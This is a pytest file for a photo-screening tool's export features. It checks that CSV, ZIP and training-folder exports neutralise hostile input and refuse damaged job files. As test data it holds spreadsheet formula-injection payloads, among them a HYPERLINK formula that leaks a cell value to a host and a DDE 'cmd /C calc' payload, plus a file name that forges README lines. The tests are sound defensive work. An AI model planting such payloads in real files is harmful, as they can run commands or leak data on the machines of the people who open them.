"""Exports of a real screening job (the shipped model on photos made here) against hostile and damaged input: formulas
in names and notes, a file name that forges README lines, a name that is not UTF-8, a damaged scores.csv, and the
temporary files of a killed export."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from test_case_export import blob_photo

from wildvision.analysis.export import to_csv
from wildvision.cli import main
from wildvision.screening import decisions
from wildvision.screening.config import FILES, SCORES
from wildvision.screening.export import cases_csv, export_csv, export_evidence_pack
from wildvision.screening.job import screen
from wildvision.screening.training_export import export_training_folder

CAPTIVE, NEGATIVE = decisions.DEFAULT_CLASSES[1], decisions.DEFAULT_CLASSES[0]
FORMULA_NAME = "@SUM(1+1).jpg"
FORGING_NAME = "gone\nForged: every photo was checked.jpg"
REVIEWER = '=HYPERLINK("http://host/?"&A1)'
NOTE = "=1+2"


@pytest.fixture(scope="module")
def screened(tmp_path_factory) -> Path:
    """A completed job over a folder whose names include a formula and a line break."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "scraped"
    for seed, name in enumerate([FORMULA_NAME, "post 1.jpg", "post 2.jpg", "post 3.jpg", "post 4.jpg", FORGING_NAME]):
        blob_photo(folder / name, seed)
    return screen([str(folder)], screens_dir=root / "screens", name="market")


@pytest.fixture
def job(screened, tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("WILDVISION_SHARED", str(tmp_path / "no-shared"))
    return Path(shutil.copytree(screened, tmp_path / "job"))


def path_of(job: Path, name: str) -> str:
    (path,) = [path for path in decisions.scored_items(job) if Path(path).name == name]
    return path


def decide_hostile(job: Path) -> None:
    """Three photos captive (one named as a formula, decided by a 'reviewer' whose name is one), two not."""
    decisions.decide(job, [path_of(job, FORMULA_NAME)], CAPTIVE, REVIEWER, note=NOTE)
    decisions.decide(job, [path_of(job, "post 1.jpg"), path_of(job, "post 2.jpg")], CAPTIVE, "ana", note="-2 cages")
    decisions.decide(job, [path_of(job, "post 3.jpg"), path_of(job, "post 4.jpg")], NEGATIVE, "ana", note="+ fine")


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_safe(table: list[dict], number_columns: tuple[str, ...] = ()) -> None:
    """No cell a spreadsheet would run as a formula; number columns still numbers."""
    assert table
    for row in table:
        for column, cell in row.items():
            if column in number_columns:
                float(cell)
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_every_csv_of_an_export_writes_formulas_as_text(job, tmp_path) -> None:
    decide_hostile(job)
    cases = rows(export_csv(job, tmp_path / "cases.csv").path.read_text(encoding="utf-8"))
    assert_safe(cases, ("probability",))
    formula = next(row for row in cases if row["path"].endswith(FORMULA_NAME))
    assert (formula["reviewer"], formula["note"]) == ("'" + REVIEWER, "'" + NOTE)

    with zipfile.ZipFile(export_evidence_pack(job, tmp_path / "pack.zip", saliency=False).path) as pack:
        assert_safe(rows(pack.read("cases.csv").decode("utf-8")), ("probability",))

    test_set = tmp_path / "test-set"
    test_set.mkdir()
    shutil.copy(path_of(job, "post 1.jpg"), test_set / "-copy.jpg")
    folder = export_training_folder(job, tmp_path / "training", test_sets={"=evil": test_set})
    manifest = rows((folder.path / "manifest.csv").read_text(encoding="utf-8"))
    assert_safe(manifest)
    assert {row["reviewer"] for row in manifest} == {"ana", "'" + REVIEWER}
    overlap = rows((folder.path / "test_overlap.csv").read_text(encoding="utf-8"))
    assert_safe(overlap, ("phash_distance",))
    assert [row["test_set"] for row in overlap] == ["'=evil"]


def test_the_tables_downloads_write_formulas_as_text_and_numbers_as_numbers() -> None:
    table = pd.DataFrame({"model": ["=cmd|' /C calc'!A0", "resnet"], "f1": [0.9, -0.25]}, index=pd.Index(["@run", "b"], name="run"))
    written = rows(to_csv(table))
    assert written == [{"run": "'@run", "model": "'=cmd|' /C calc'!A0", "f1": "0.9"}, {"run": "b", "model": "resnet", "f1": "-0.25"}]


def test_predictions_csv_writes_a_formula_file_name_as_text(tmp_path, monkeypatch) -> None:
    blob_photo(tmp_path / FORMULA_NAME, 3)
    monkeypatch.chdir(tmp_path)
    assert main(["predict", FORMULA_NAME, "--csv", "out.csv"]) == 0
    (row,) = rows((tmp_path / "out.csv").read_text(encoding="utf-8"))
    assert row["path"] == "'" + FORMULA_NAME and 0 <= float(row["probability"]) <= 1


def test_a_file_name_cannot_forge_lines_of_the_packs_readme(job, tmp_path) -> None:
    decide_hostile(job)
    decisions.decide(job, [path_of(job, FORGING_NAME)], CAPTIVE, "ana\nForged: approved by the court")
    os.remove(path_of(job, FORGING_NAME))  # gone since screening: the README names it among the photos left out
    with zipfile.ZipFile(export_evidence_pack(job, tmp_path / "pack.zip", saliency=False).path) as pack:
        readme = pack.read("README.txt").decode("utf-8")
        cases = rows(pack.read("cases.csv").decode("utf-8"))
    assert not [line for line in readme.splitlines() if line.startswith("Forged")]
    assert "gone\\nForged: every photo was checked.jpg" in readme
    assert any(row["path"].endswith("gone\\nForged: every photo was checked.jpg") for row in cases)


def test_a_non_utf8_name_is_exported_as_escaped_text(job, tmp_path) -> None:
    """A name that is not UTF-8, as screening keeps it (files.jsonl and scores.csv hold it losslessly as surrogates)."""
    old = path_of(job, "post 1.jpg")
    new = os.fsdecode(os.path.join(os.fsencode(Path(old).parent), b"caf\xe9.jpg"))
    os.rename(old, new)
    for name in (FILES, SCORES):
        text = (job / name).read_text(encoding="utf-8", errors="surrogateescape")
        escaped = json.dumps(old)[1:-1] if name == FILES else old
        replaced = json.dumps(new)[1:-1] if name == FILES else new
        (job / name).write_text(text.replace(escaped, replaced), encoding="utf-8", errors="surrogateescape")
    decisions.decide(job, [new, path_of(job, "post 2.jpg")], CAPTIVE, "ana")
    (cases,) = [row for row in rows(cases_csv(job)[0]) if "caf" in row["path"]]
    assert cases["path"].endswith("caf\\xe9.jpg")
    with zipfile.ZipFile(export_evidence_pack(job, tmp_path / "pack.zip", saliency=False).path) as pack:
        members = pack.namelist()
        (packed,) = [row for row in rows(pack.read("cases.csv").decode("utf-8")) if "caf" in row["path"]]
        assert pack.read(packed["image"]) == Path(new).read_bytes()  # byte for byte as screened
    assert any(member.startswith("images/") and "caf" in member for member in members)


def finished_pid() -> int:
    """The pid of a process that has finished and been reaped."""
    process = subprocess.Popen(["true"])
    process.wait()
    return process.pid


def test_a_killed_exports_temporary_files_are_removed_by_the_next_export(job, tmp_path) -> None:
    decide_hostile(job)
    out = tmp_path / "exports"
    out.mkdir()
    stale_csv = out / f".cases.csv.{finished_pid()}.0a1b2c3d.tmp"
    stale_pack = out / f".pack.zip.{finished_pid()}.deadbeef.tmp"
    stale_folder = out / f".training.{finished_pid()}.12345678.tmp"
    running = out / f".pack.zip.{os.getpid()}.cafe0123.tmp"  # an export still running keeps its file
    someone_elses = out / ".notes.txt.1.0a1b2c3d.tmp"  # not an export of these outputs
    for leftover in (stale_csv, stale_pack, running, someone_elses):
        leftover.write_bytes(b"half a file")
    (stale_folder / "captive").mkdir(parents=True)
    export_csv(job, out / "cases.csv")
    export_evidence_pack(job, out / "pack.zip", saliency=False)
    export_training_folder(job, out / "training")
    assert sorted(path.name for path in out.iterdir()) == sorted([".notes.txt.1.0a1b2c3d.tmp", running.name, "cases.csv", "pack.zip", "training"])


def damage(job: Path, how: str) -> None:
    """Damage scores.csv as a crash, a hand edit or a disk error might."""
    text = (job / SCORES).read_text(encoding="utf-8")
    sha = decisions.scored_items(job)[path_of(job, "post 2.jpg")]["sha256"]
    if how == "truncated":  # cut in the middle of a SHA-256, as the issue found it
        (job / SCORES).write_text(text[: text.index(sha) + 20], encoding="utf-8")
    elif how == "short hash":
        (job / SCORES).write_text(text.replace(sha, sha[:40]), encoding="utf-8")
    elif how == "extra row":
        (job / SCORES).write_text(text + text.splitlines(keepends=True)[-1], encoding="utf-8")


@pytest.mark.parametrize("how", ["truncated", "short hash", "extra row"])
def test_a_job_whose_scores_do_not_match_its_files_is_refused_with_nothing_written(job, tmp_path, how, capsys) -> None:
    decide_hostile(job)
    damage(job, how)
    outs = [tmp_path / "cases.csv", tmp_path / "pack.zip", tmp_path / "training"]
    assert main(["export", str(job), "--csv", str(outs[0])]) == 2
    assert main(["export", str(job), "--zip", str(outs[1]), "--no-saliency"]) == 2
    assert main(["export", str(job), "--training-folder", str(outs[2])]) == 2
    err = capsys.readouterr().err
    assert err.count("error: screening job job cannot be exported") == 3 and "nothing was written" in err and "Traceback" not in err, err
    for attempt in (
        lambda: cases_csv(job),
        lambda: export_evidence_pack(job, outs[1], saliency=False),
        lambda: export_training_folder(job, outs[2]),
    ):
        with pytest.raises(ValueError, match="cannot be exported"):
            attempt()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["job"]


def test_a_damaged_decision_store_is_refused_by_every_export(job, tmp_path, capsys) -> None:
    decide_hostile(job)
    store = job / decisions.DATABASE
    store.write_bytes(store.read_bytes()[:5000])
    for option, out in (("--csv", "cases.csv"), ("--zip", "pack.zip"), ("--training-folder", "training")):
        assert main(["export", str(job), option, str(tmp_path / out)]) == 2
    err = capsys.readouterr().err
    assert err.count("its decisions.sqlite is damaged") == 3 and "nothing was changed" in err and "Traceback" not in err, err
    with pytest.raises(decisions.DecisionsUnreadable):
        cases_csv(job)  # the Review page's download: a fault to show, not "no confirmed cases yet"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["job"]
